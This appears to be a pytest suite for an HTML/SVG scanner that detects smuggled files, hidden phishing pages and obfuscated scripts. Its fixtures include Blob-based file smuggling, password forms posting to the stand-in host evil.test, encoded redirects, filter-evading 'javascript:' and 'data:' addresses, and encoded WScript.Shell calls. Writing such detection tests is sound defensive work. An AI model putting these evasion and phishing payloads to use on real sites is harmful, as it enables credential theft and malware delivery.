from base64 import b64encode
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sekisho.mime.documents import page
from sekisho.testing.encoded_scripts import encoded

FILE = b"PK\x03\x04" + bytes(range(256)) * 4
INNER = b"<html><body><form action='https://evil.test/'><input type=password></form></body></html>"


def test_a_file_built_by_script(look):
    text = f"<script>var b=new Blob([atob('{b64encode(FILE).decode()}')]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>"
    looking = look(page.look, text, "html")
    assert "page_smuggling" in looking.signs
    assert FILE in [member.octets for member in looking.members]


def test_many_ways_on_in_front_hide_none(look):
    for way in ("<meta http-equiv=refresh content='0;url=http://{}/'>", "<script>location='http://{}/'</script>"):
        looking = look(page.look, "".join(way.format(host) for host in [*(["filler.test"] * 50), "evil.test"]), "html")
        assert "http://evil.test/" in looking.links


def test_a_file_in_pieces(look):
    whole = b64encode(FILE).decode()
    text = "<script>var x='" + "'+'".join(whole[place : place + 100] for place in range(0, len(whole), 100)) + "';document.write(atob(x))</script>"
    assert [member.octets[:4] for member in look(page.look, text, "html").members] == [b"PK\x03\x04"]


@pytest.mark.parametrize(
    "written",
    [
        f"atob('{b64encode(INNER * 3).decode()}')",
        f"unescape('{''.join(f'%{octet:02x}' for octet in INNER)}')",
        "'" + "".join(f"\\x{octet:02x}" for octet in INNER) + "'",
        "String.fromCharCode(" + ",".join(map(str, INNER)) + ")",
        f"atob(atob('{b64encode(b64encode(INNER * 3)).decode()}'))",
    ],
)
def test_a_page_in_a_page(look, written):
    looking = look(page.look, f"<script>document.write({written})</script>", "html")
    assert {"page_hidden_page", "page_password"} <= set(looking.signs)


ADDRESS = "x/y;base64," + b64encode(FILE).decode()


@pytest.mark.parametrize("written", ["da\tta:", "d\na\nt\na\n:", "DA\r\nTA:", "da&Tab;ta&colon;", "&#100;a&NewLine;ta:", "data:", "&#x64;ata&colon;"])
def test_an_address_as_a_browser_reads_it(look, written):
    looking = look(page.look, f"<html><a href='{written}{ADDRESS}'>x</a></html>", "html")
    assert [member.octets for member in looking.members] == [FILE]


def test_an_address_whose_content_is_written_with_entities(look):
    looking = look(page.look, f"<html><a href='data:{ADDRESS.replace('U', '&#85;')}'>x</a></html>", "html")
    assert FILE in [member.octets for member in looking.members]


@pytest.mark.parametrize("written", ["java\nscript:", "java&Tab;script:", "j\ta\tv\ta\tscript&colon;", "JAVA&#10;SCRIPT:"])
def test_a_script_in_an_address(look, written):
    assert "picture_script" in look(page.look, f"<svg><a href='{written}alert(1)'/></svg>", "svg").signs


def test_an_encoded_script_in_a_page(look):
    script = encoded(b"x.Run('https://evil.test/a')\r\nnew ActiveXObject('WScript.Shell')")
    looking = look(page.look, b"<html><script language='JScript.Encode'>" + script + b"</script></html>", "html")
    assert "page_program" in looking.signs
    assert "https://evil.test/a" in looking.links


def test_a_drawing_in_an_address_is_no_hidden_page(look):
    drawing = "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16'><path d='M1 2a3 3 0 0 1 4 4z'/></svg>"
    for address in (quote(drawing), ";base64," + b64encode(drawing.encode()).decode(), drawing.replace("'", "%27")):
        assert look(page.look, f'<style>a{{background:url("data:image/svg+xml,{address}")}}</style>', "html").signs == {}
    told = look(page.look, f'<img src="data:image/svg+xml,{quote(drawing.replace("<path", "<script>x()</script><path"))}">', "html").signs
    assert "page_hidden_page" in told
    assert (
        "picture_script" in look(page.look, f'<embed src="data:image/svg+xml,{quote(drawing.replace("<path", "<path onload=x()"))}">', "html").signs
    )


def test_pictures_that_run_scripts(look):
    assert (
        "picture_script"
        in look(page.look, "<svg xmlns='http://www.w3.org/2000/svg'><script>location='http://evil.test/'</script></svg>", "svg").signs
    )
    assert "picture_script" in look(page.look, "<svg onload='x()'/>", "svg").signs
    assert "picture_script" in look(page.look, "<svg><foreignObject><body xmlns='x'><form/></body></foreignObject></svg>", "svg").signs
    assert look(page.look, "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", "svg").signs == {}


def test_ways_on_and_programs(look):
    assert "page_redirect" in look(page.look, "<meta http-equiv='refresh' content='0; url=https://evil.test/'>", "html").signs
    assert "page_redirect" in look(page.look, "<script>window.location.href='https://evil.test/'</script>", "html").signs
    assert "page_program" in look(page.look, "<hta:application id=x><script>new ActiveXObject('WScript.Shell')</script>", "hta").signs


def test_an_ordinary_page(look):
    picture = b64encode(b"\x89PNG\r\n\x1a\n" + bytes(500)).decode()
    text = f"<html><body><h1>Minutes</h1><img src='data:image/png;base64,{picture}'><a href='https://www.partner.test/?q={quote('関所' * 20)}'>x</a></body></html>"
    looking = look(page.look, text, "html")
    assert (looking.signs, looking.members) == ({}, [])


def test_utf_16(look):
    assert "page_password" in look(page.look, INNER.decode().encode("utf-16"), "html").signs


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.text(max_size=300))
def test_broken_ones_raise_nothing(look, text):
    look(page.look, f"<script>{text}".encode("utf-8", "replace"), "html")


def test_hostile_text_is_read_in_linear_time(look):
    pieces = ("%41" * 30 + "\0", "A" * 64 + "!", "1," * 50, "<meta http-equiv=refresh ", "data:a;b", "<input ", "location=", "\\x41" * 20, "%4a.")
    for piece in pieces:  # what is quadratic here takes hours
        look(page.look, "<script>" + piece * 10_000, "html")


def test_escapes_in_short_runs_end_with_a_limit(look):
    assert "page_hidden_page" in look(page.look, f"<script>unescape('{quote(INNER * 3)}')</script>" + "<i>%41</i>" * 5_000, "html").signs
    looking = look(page.look, "<script>" + ("%41" * 23 + " ") * 100_001, "html")
    assert [defect.code for defect in looking.defects] == ["unscannable.budget"]


def test_escapes_are_read_as_browsers_read_them(look):
    inner = "<html><form action='https://evil.test/?a=1&b==2'>é漢</form>"
    written = "".join(
        f"%{octet:02x}" if octet % 3 else chr(octet) if chr(octet).isalnum() or chr(octet) in "=/" else f"%{octet:02X}" for octet in inner.encode()
    )
    looking = look(page.look, f"<script>document.write(decodeURIComponent('{written}'))</script>", "html")
    assert "page_hidden_page" in looking.signs


@pytest.mark.parametrize("start", [b"BM", b"GIF8", b"RIFF", b"\0\1\0\0"])
def test_a_page_that_begins_like_a_picture_is_one(look, start):
    written = b64encode(start + INNER * 4).decode()
    for code in (f"document.write(atob('{written}'))", f"x = 'data:image/png'; document.write(atob('{written}'))"):
        assert "page_hidden_page" in look(page.look, f"<html><script>{code}</script>", "html").signs
    picture = b64encode(start + bytes(range(256)) * 4).decode()
    assert look(page.look, f"<html><img src='data:image/png;base64,{picture}'>", "html").signs == {}


def test_runs_of_base64_in_front_hide_nothing(look):
    written = b64encode(INNER * 4).decode()
    looking = look(page.look, "<p>" + "0a1B " * 3 + ("a" * 64 + " ") * 30_000 + f"<script>document.write(atob('{written}'))</script>", "html")
    assert ("page_hidden_page" in looking.signs, looking.defects) == (True, [])
    looking = look(page.look, "<script>" + ("a" * 64 + " ") * 100_001, "html")
    assert [defect.code for defect in looking.defects] == ["unscannable.budget"]


def test_where_a_hidden_page_leads(look):
    written = b64encode(b"<html><form action='https://evil.test/take'>" + INNER).decode()
    assert "https://evil.test/take" in look(page.look, f"<script>document.write(atob('{written}'))</script>", "html").links


def test_encoded_scripts_in_utf_16(look):
    whole = '<html><script language="VBScript.Encode">' + encoded(b'CreateObject("WScript.Shell").Run "cmd"').decode("latin-1") + "</script>"
    assert "page_program" in look(page.look, whole.encode("utf-16"), "html").signs
